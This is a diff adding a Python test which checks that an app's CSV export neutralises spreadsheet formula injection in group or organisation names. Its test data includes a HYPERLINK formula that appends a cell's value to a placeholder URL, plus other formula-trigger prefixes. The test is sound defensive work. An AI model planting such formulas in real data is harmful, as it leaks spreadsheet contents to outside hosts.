@@ -180,3 +180,12 @@ def test_a_member_added_without_asking_is_not_singled_out(app, make_user, school
     after = [(s.key, s.rows) for s in indicators.compute(db.session, head, org=org) if s.key != "members_by_role"]
     assert after == before
     assert db.session.get(DailyActivity, (date(2026, 3, 2), str(org.id))) is None
+
+
+def test_the_csv_never_carries_a_formula():
+    """Review 14, L6: a group or organisation named like a formula is exported as text."""
+    section = indicators.Section("groups", "Groups", [("1", '=HYPERLINK("https://x/?"&A1;"clic")', 3),
+                                                    ("2", "+33 6", 1), ("3", "-1", 1), ("4", "@SUM(A1)", 1),
+                                                    ("5", "\tTab", 1), ("6", "\rCR", 1), ("7", "4e B", 2)])
+    labels = [row[2] for row in indicators.as_csv_rows([section])[1:]]
+    assert labels == ['\'=HYPERLINK("https://x/?"&A1;"clic")', "'+33 6", "'-1", "'@SUM(A1)", "'\tTab", "'\rCR", "4e B"]
